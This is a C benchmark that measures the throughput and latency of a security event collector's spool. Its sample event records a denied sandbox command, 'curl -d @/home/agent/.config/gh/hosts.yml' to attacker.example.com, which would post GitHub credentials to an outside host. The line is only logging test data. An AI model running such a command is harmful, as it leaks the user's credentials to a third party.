/*
 * bench_collector.c: in-process append throughput of the collector (events
 * through the ring into the spool, fsync = interval by default), and the
 * latency from append to a reader seeing the event.
 *
 *   bench_collector [--event-bytes N] [producers [events per producer [fsync [latency events
 *                   [rate]]]]]
 *
 *   --event-bytes  a smaller NET:OPEN event padded to about N bytes of JSON as
 *                  stored (default: the ~1.2 KB event of bench_ocsf)
 *   producers      appending threads (default 2)
 *   events         per producer (default 250000)
 *   fsync          always | interval | never (default interval)
 *   latency events appended one at a time at `rate` per second (default 2000
 *                  at 1000/s; 0 skips the latency part)
 *
 * The spool lives in a fresh $TMPDIR/tg-bench-XXXXXX (removed at the end).
 * events = 0 skips the throughput part. Prints events/s, MB/s of spool, CPU per event, how busy the
 * writer thread was, the collector's counters, and `result ...` lines (key=value) for
 * bench/bench_gateway.py. A benchmark: it never fails on speed (exit 1 only
 * on an error).
 */
#include <dirent.h>
#include <errno.h>
#include <ftw.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "collector/collector.h"

#define GOAL_EVENTS_PER_S 1e6

static col_t *col;
static long per;
static uint64_t *last_ticket; /* per producer: the ticket of its last append */

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static double cpu_s(void)
{
    struct rusage ru;
    getrusage(RUSAGE_SELF, &ru);
    return (double)ru.ru_utime.tv_sec + ru.ru_utime.tv_usec / 1e6 + (double)ru.ru_stime.tv_sec +
           ru.ru_stime.tv_usec / 1e6;
}

/* ---- the writer thread's CPU time, from /proc/self/task ----------------- */

#define MAX_TASKS 256

static int list_tasks(long *ids, int max)
{
    DIR *d = opendir("/proc/self/task");
    int n = 0;
    if (!d)
        return 0;
    for (struct dirent *e; (e = readdir(d)) && n < max;)
        if (e->d_name[0] != '.')
            ids[n++] = atol(e->d_name);
    closedir(d);
    return n;
}

/* The thread col_create started named `name` (its writer, its syncer); 0
 * when unknown. */
static long new_task(const long *before, int nb, const char *name)
{
    long after[MAX_TASKS];
    int na = list_tasks(after, MAX_TASKS);
    for (int i = 0; i < na; i++) {
        bool old = false;
        for (int j = 0; j < nb; j++)
            old |= after[i] == before[j];
        char path[64], comm[32] = "";
        snprintf(path, sizeof path, "/proc/self/task/%ld/comm", after[i]);
        FILE *f = old ? NULL : fopen(path, "r");
        if (f) {
            if (fgets(comm, sizeof comm, f))
                comm[strcspn(comm, "\n")] = '\0';
            fclose(f);
        }
        if (!old && strcmp(comm, name) == 0)
            return after[i];
    }
    return 0;
}

/* A thread's time on a CPU and waiting for one (runnable), in seconds, from
 * /proc/self/task/TID/schedstat; -1 when unknown. */
static int task_sched(long tid, double *on_cpu, double *runnable)
{
    char path[64];
    unsigned long long run, wait;
    *on_cpu = *runnable = -1;
    if (tid <= 0)
        return -1;
    snprintf(path, sizeof path, "/proc/self/task/%ld/schedstat", tid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    int n = fscanf(f, "%llu %llu", &run, &wait);
    fclose(f);
    if (n != 2)
        return -1;
    *on_cpu = (double)run / 1e9;
    *runnable = (double)wait / 1e9;
    return 0;
}

/* ---- the event ---------------------------------------------------------- */

/* The ~1.2 KB NET:OPEN event of bench_ocsf, denied by policy. */
static void make(ocsf_event_t *ev, long i)
{
    static const ocsf_product_t p = {OCSF_STR("tollgate-proxy"), OCSF_STR(TOLLGATE_VENDOR),
                                     OCSF_STR(TOLLGATE_VERSION)};
    ocsf_event_init(ev);
    ocsf_event_begin(ev, OCSF_CLASS_NETWORK, OCSF_NET_OPEN, OCSF_SEV_INFO, 1795737600000LL + i, &p);
    ev->log_name = OCSF_STR("sandbox");
    ev->device_hostname = OCSF_STR("devbox");
    ev->device_type_id = OCSF_DEVICE_SERVER;
    ev->container_name = OCSF_STR("default");
    ev->container_uid = OCSF_STR("sbx-7f3a9c1e");
    ev->actor.pid = 1310;
    ev->actor.name = OCSF_STR("curl");
    ev->actor.cmd_line =
        OCSF_STR("curl -d @/home/agent/.config/gh/hosts.yml https://attacker.example.com/");
    ocsf_process_set_file(
        &ev->actor, OCSF_STR("/usr/bin/curl"),
        OCSF_STR("5f1b1a0e4f5d8c2e7b9a3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"));
    ev->dst.domain = OCSF_STR("attacker.example.com");
    ev->dst.ip = OCSF_STR("203.0.113.7");
    ev->dst.port = 443;
    ocsf_event_verdict(ev, false, OCSF_NOSTR, OCSF_STR("policy"),
                       OCSF_STR("endpoint attacker.example.com:443 is not allowed by any policy"));
}

/* --event-bytes N: events of about N bytes of JSON as stored (with
 * logged_time and sequence), appended with col_append_raw as the gateway
 * appends what it ingests (a NET:OPEN with few fields, message padded);
 * 0: the ~1.2 KB event above through col_append (encoded per append). */
static long event_bytes;
static char *raw_tmpl; /* the JSON; the uid's last 12 digits change per event */
static size_t raw_len, raw_at, raw_uid;

static long size_event(void)
{
    const char *head = "{\"activity_id\":1,\"category_uid\":4,\"class_uid\":4001,\"dst_endpoint\":"
                       "{\"domain\":\"example.com\",\"port\":443},\"message\":\"";
    const char *tail = "\",\"metadata\":{\"product\":{\"name\":\"agent\",\"vendor_name\":\"acme\"},"
                       "\"uid\":\"00000000-0000-4000-8000-000000000000\",\"version\":\"1.7.0\"},"
                       "\"severity_id\":1,\"time\":1795737600000,\"type_uid\":400101}";
    size_t fixed = strlen(head) + strlen(tail);
    long stored = (long)fixed + 46; /* "logged_time":<13 digits>,"sequence":<7 digits>, */
    long pad = event_bytes > stored ? event_bytes - stored : 0;
    raw_len = fixed + (size_t)pad;
    raw_tmpl = malloc(raw_len + 1);
    if (!raw_tmpl)
        abort();
    char *p = raw_tmpl;
    memcpy(p, head, strlen(head));
    p += strlen(head);
    memset(p, 'x', (size_t)pad);
    p += pad;
    memcpy(p, tail, strlen(tail) + 1);
    raw_at = (size_t)(strstr(raw_tmpl, "\"metadata\":{") - raw_tmpl) + strlen("\"metadata\":{");
    raw_uid = (size_t)(strstr(raw_tmpl, "-8000-") - raw_tmpl) + strlen("-8000-");
    return stored + pad;
}

static int append_raw(char *json, long i, uint64_t *t, char *err, size_t errlen)
{
    char d[16];
    snprintf(d, sizeof d, "%012ld", i % 1000000000000L);
    memcpy(json + raw_uid, d, 12);
    ocsf_ingest_t in = {.json = json,
                        .len = raw_len,
                        .at = raw_at,
                        .time = 1795737600000LL + i,
                        .class_uid = 4001,
                        .severity_id = 1,
                        .action_id = -1,
                        .log_name = OCSF_STR("sandbox"),
                        .sandbox = OCSF_STR("default")};
    return col_append_raw(col, &in, t, err, errlen);
}

/* One append of event i (its own buffer for the raw JSON). */
static int append_one(ocsf_event_t *ev, char *json, long i, uint64_t *t, char *err, size_t errlen)
{
    if (event_bytes > 0)
        return append_raw(json, i, t, err, errlen);
    make(ev, i);
    return col_append(col, ev, t, err, errlen);
}

static void *producer(void *arg)
{
    long k = (long)(intptr_t)arg, base = k * per;
    ocsf_event_t ev;
    char err[128];
    uint64_t t = 0;
    char *json = raw_tmpl ? strdup(raw_tmpl) : NULL;
    for (long i = 0; i < per; i++) {
        if (append_one(&ev, json, base + i, &t, err, sizeof err) != 0) {
            fprintf(stderr, "bench_collector: append: %s\n", err);
            abort();
        }
    }
    last_ticket[k] = t;
    free(json);
    return NULL;
}

static int rm_cb(const char *p, const struct stat *st, int f, struct FTW *w)
{
    (void)st, (void)f, (void)w;
    return remove(p);
}

static int open_collector(const char *dir, const char *mode, col_t **out)
{
    char spool[300], err[256];
    snprintf(spool, sizeof spool, "%s/spool", dir);
    col_config_t cfg;
    col_config_default(&cfg);
    cfg.spool_dir = spool;
    cfg.fsync = strcmp(mode, "always") == 0  ? COL_FSYNC_ALWAYS
                : strcmp(mode, "never") == 0 ? COL_FSYNC_NEVER
                                             : COL_FSYNC_INTERVAL;
    cfg.retention_bytes = 0;
    if (col_create(&cfg, out, err, sizeof err) != 0) {
        fprintf(stderr, "bench_collector: %s\n", err);
        return -1;
    }
    return 0;
}

/* ---- throughput --------------------------------------------------------- */

static int bench_throughput(const char *dir, int np, const char *mode)
{
    long before[MAX_TASKS];
    int nb = list_tasks(before, MAX_TASKS);
    if (open_collector(dir, mode, &col) != 0)
        return -1;
    long writer = 0, syncer = 0;
    for (int i = 0; i < 100 && (!writer || !syncer); i++) { /* until the threads named themselves */
        writer = new_task(before, nb, "tg-col-writer");
        syncer = new_task(before, nb, "tg-col-syncer");
        if (!writer || !syncer)
            usleep(1000);
    }
    double w_cpu0, w_rq0, w_cpu = -1, w_rq = -1, s_cpu0, s_rq0, s_cpu = -1, s_rq = -1;
    task_sched(writer, &w_cpu0, &w_rq0);
    task_sched(syncer, &s_cpu0, &s_rq0);
    last_ticket = calloc((size_t)np, sizeof *last_ticket);
    pthread_t th[64];
    double c0 = cpu_s(), t0 = now_s();
    for (int k = 0; k < np; k++)
        pthread_create(&th[k], NULL, producer, (void *)(intptr_t)k);
    for (int k = 0; k < np; k++)
        pthread_join(th[k], NULL);
    double t_append = now_s() - t0;
    uint64_t last = 0; /* tickets grow with the ring offset: the largest is the last */
    for (int k = 0; k < np; k++)
        last = last_ticket[k] > last ? last_ticket[k] : last;
    col_wait_durable(col, last, -1);
    double t_durable = now_s() - t0, cpu = cpu_s() - c0;
    if (w_cpu0 >= 0 && task_sched(writer, &w_cpu, &w_rq) == 0)
        w_cpu -= w_cpu0, w_rq -= w_rq0;
    if (s_cpu0 >= 0 && task_sched(syncer, &s_cpu, &s_rq) == 0)
        s_cpu -= s_cpu0, s_rq -= s_rq0;
    col_stats_t st;
    col_stats(col, &st);
    double n = (double)np * (double)per;
    double mb = (double)st.spool_bytes / 1e6;
    printf("collector append   %d producers x %ld events, fsync=%s, spool in %s\n", np, per, mode,
           dir);
    printf("  appended         %12.0f ev/s  (%.0f ns/ev) until the last append returned\n",
           n / t_append, t_append * 1e9 / n);
    printf("  durable          %12.0f ev/s  %.1f MB/s of spool, %.2f s until the last event "
           "was %s\n",
           n / t_durable, mb / t_durable, t_durable,
           strcmp(mode, "never") == 0 ? "written" : "fsynced");
    printf("  size             %12.0f B/ev  of spool (record header, sandbox, JSON)\n",
           (double)st.spool_bytes / n);
    printf("  cpu              %12.0f ns/ev  of CPU, all threads (%.2f cores busy)\n",
           cpu * 1e9 / n, cpu / t_durable);
    if (w_cpu >= 0) {
        double sleep = t_durable - w_cpu - w_rq;
        printf("  writer thread    %11.0f%%    on a CPU (%.0f ns/ev), %.0f%% runnable waiting for "
               "one, %.0f%% asleep (write/fdatasync, or an empty ring)\n",
               100 * w_cpu / t_durable, w_cpu * 1e9 / n, 100 * w_rq / t_durable,
               100 * (sleep > 0 ? sleep : 0) / t_durable);
    }
    if (s_cpu >= 0)
        printf(
            "  syncer thread    %11.0f%%    on a CPU (%.0f ns/ev): fdatasync and writeback starts "
            "off the writer's path\n",
            100 * s_cpu / t_durable, s_cpu * 1e9 / n);
    if (st.blocked)
        printf("  pace             producers waited %llu times for room in the ring: the "
               "writer thread set the pace\n",
               (unsigned long long)st.blocked);
    printf("  counters         blocked=%llu fsyncs=%llu segments=%llu spool_bytes=%llu\n",
           (unsigned long long)st.blocked, (unsigned long long)st.fsyncs,
           (unsigned long long)st.segments, (unsigned long long)st.spool_bytes);
    printf("  goal             %12.0f ev/s  durable: %s (information only)\n", GOAL_EVENTS_PER_S,
           n / t_durable >= GOAL_EVENTS_PER_S ? "PASS" : "MISS");
    printf("result append producers=%d events=%.0f fsync=%s append_s=%.6f durable_s=%.6f "
           "spool_bytes=%llu cpu_s=%.6f writer_cpu_s=%.6f writer_runnable_s=%.6f blocked=%llu "
           "fsyncs=%llu syncer_cpu_s=%.6f event_bytes=%ld\n",
           np, n, mode, t_append, t_durable, (unsigned long long)st.spool_bytes, cpu, w_cpu, w_rq,
           (unsigned long long)st.blocked, (unsigned long long)st.fsyncs, s_cpu, event_bytes);
    col_destroy(col);
    col = NULL;
    free(last_ticket);
    return 0;
}

/* ---- latency: append -> a reader has it --------------------------------- */

static struct {
    pthread_mutex_t mu;
    pthread_cond_t cv;
    bool signalled, done;
    uint64_t base; /* the sequence of the first latency event */
    long n, seen;
    double *t_append; /* per event, before col_append */
    double *lat;      /* seconds, per event */
} L = {.mu = PTHREAD_MUTEX_INITIALIZER, .cv = PTHREAD_COND_INITIALIZER};

/* A listener: runs on the writer thread after each commit; only signals. */
static void on_commit(void *ctx)
{
    (void)ctx;
    pthread_mutex_lock(&L.mu);
    L.signalled = true;
    pthread_cond_signal(&L.cv);
    pthread_mutex_unlock(&L.mu);
}

static int seen_cb(const col_record_t *r, void *ctx)
{
    (void)ctx;
    double t = now_s();
    if (r->seq >= L.base && r->seq < L.base + (uint64_t)L.n) {
        long i = (long)(r->seq - L.base);
        L.lat[i] = t - L.t_append[i];
        L.seen++;
    }
    return 0;
}

static void *reader(void *arg)
{
    (void)arg;
    col_filter_t f;
    col_filter_init(&f);
    uint64_t next = L.base;
    while (L.seen < L.n) {
        pthread_mutex_lock(&L.mu);
        while (!L.signalled && !L.done) {
            struct timespec ts;
            clock_gettime(CLOCK_REALTIME, &ts);
            ts.tv_nsec += 50 * 1000000;
            if (ts.tv_nsec >= 1000000000)
                ts.tv_sec++, ts.tv_nsec -= 1000000000;
            if (pthread_cond_timedwait(&L.cv, &L.mu, &ts) == ETIMEDOUT)
                break;
        }
        L.signalled = false;
        bool done = L.done;
        pthread_mutex_unlock(&L.mu);
        if (col_read(col, &f, next, 0, seen_cb, NULL, &next) < 0 || done)
            break;
    }
    return NULL;
}

static int cmp_d(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static int bench_latency(const char *dir, const char *mode, long n, double rate)
{
    if (open_collector(dir, mode, &col) != 0)
        return -1;
    L.n = n;
    L.seen = 0;
    L.done = false;
    L.t_append = calloc((size_t)n, sizeof(double));
    L.lat = calloc((size_t)n, sizeof(double));
    L.base = col_written_seq(col) + 1;
    col_subscribe(col, on_commit, NULL);
    pthread_t rd;
    pthread_create(&rd, NULL, reader, NULL);
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    ocsf_event_t ev;
    char err[128];
    for (long i = 0; i < n; i++) {
        /* absolute pacing: event i goes at t0 + i / rate */
        double at = (double)i / rate;
        struct timespec ts = t0;
        ts.tv_sec += (time_t)at;
        ts.tv_nsec += (long)((at - (double)(time_t)at) * 1e9);
        if (ts.tv_nsec >= 1000000000)
            ts.tv_sec++, ts.tv_nsec -= 1000000000;
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
        L.t_append[i] = now_s();
        if (append_one(&ev, raw_tmpl, i, NULL, err, sizeof err) != 0) {
            fprintf(stderr, "bench_collector: append: %s\n", err);
            abort();
        }
    }
    double deadline = now_s() + 10;
    while (L.seen < n && now_s() < deadline)
        usleep(1000);
    pthread_mutex_lock(&L.mu);
    L.done = true;
    pthread_cond_signal(&L.cv);
    pthread_mutex_unlock(&L.mu);
    pthread_join(rd, NULL);
    col_unsubscribe(col, on_commit, NULL);
    long seen = L.seen;
    qsort(L.lat, (size_t)n, sizeof(double), cmp_d);
    double p50 = L.lat[n / 2] * 1e6, p99 = L.lat[(n * 99) / 100] * 1e6, mx = L.lat[n - 1] * 1e6;
    printf("append -> reader   %ld events at %.0f/s, fsync=%s, col_read woken by col_subscribe\n",
           n, rate, mode);
    printf("  latency          p50 %.0f us   p99 %.0f us   max %.0f us   (%ld/%ld seen)\n", p50,
           p99, mx, seen, n);
    printf("result latency events=%ld rate=%.0f seen=%ld p50_us=%.1f p99_us=%.1f max_us=%.1f\n", n,
           rate, seen, p50, p99, mx);
    col_destroy(col);
    col = NULL;
    free(L.t_append);
    free(L.lat);
    return seen == n ? 0 : -1;
}

int main(int argc, char **argv)
{
    if (argc > 2 && strcmp(argv[1], "--event-bytes") == 0) {
        event_bytes = atol(argv[2]);
        if (event_bytes < 1 || event_bytes > 60000) {
            fprintf(stderr, "bench_collector: --event-bytes: 1 to 60000\n");
            return 1;
        }
        argv[2] = argv[0];
        argv += 2, argc -= 2;
    }
    int np = argc > 1 ? atoi(argv[1]) : 2;
    per = argc > 2 ? atol(argv[2]) : 250000;
    const char *mode = argc > 3 ? argv[3] : "interval";
    long lat_n = argc > 4 ? atol(argv[4]) : 2000;
    double rate = argc > 5 ? atof(argv[5]) : 1000;
    if (np < 1 || np > 64 || per < 0 || lat_n < 0 || rate <= 0 ||
        (strcmp(mode, "always") && strcmp(mode, "interval") && strcmp(mode, "never"))) {
        fprintf(stderr, "usage: bench_collector [--event-bytes N] [producers 1-64 [events per "
                        "producer [always|interval|never [latency events [rate/s]]]]]\n");
        return 1;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (event_bytes > 0)
        printf("event              %ld B of JSON as stored, col_append_raw as the gateway "
               "stores what it ingests (--event-bytes %ld)\n",
               size_event(), event_bytes);
    char dir[512], sub[600];
    const char *tmp = getenv("TMPDIR") && *getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
    snprintf(dir, sizeof dir, "%s/tg-bench-XXXXXX", tmp);
    if (!mkdtemp(dir)) {
        perror("bench_collector: mkdtemp");
        return 1;
    }
    int rc = 0;
    if (per > 0) {
        snprintf(sub, sizeof sub, "%s/append", dir);
        mkdir(sub, 0700);
        rc |= bench_throughput(sub, np, mode);
        nftw(sub, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
    }
    if (rc == 0 && lat_n > 0) {
        snprintf(sub, sizeof sub, "%s/latency", dir);
        mkdir(sub, 0700);
        rc |= bench_latency(sub, mode, lat_n, rate);
    }
    nftw(dir, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
    return rc ? 1 : 0;
}
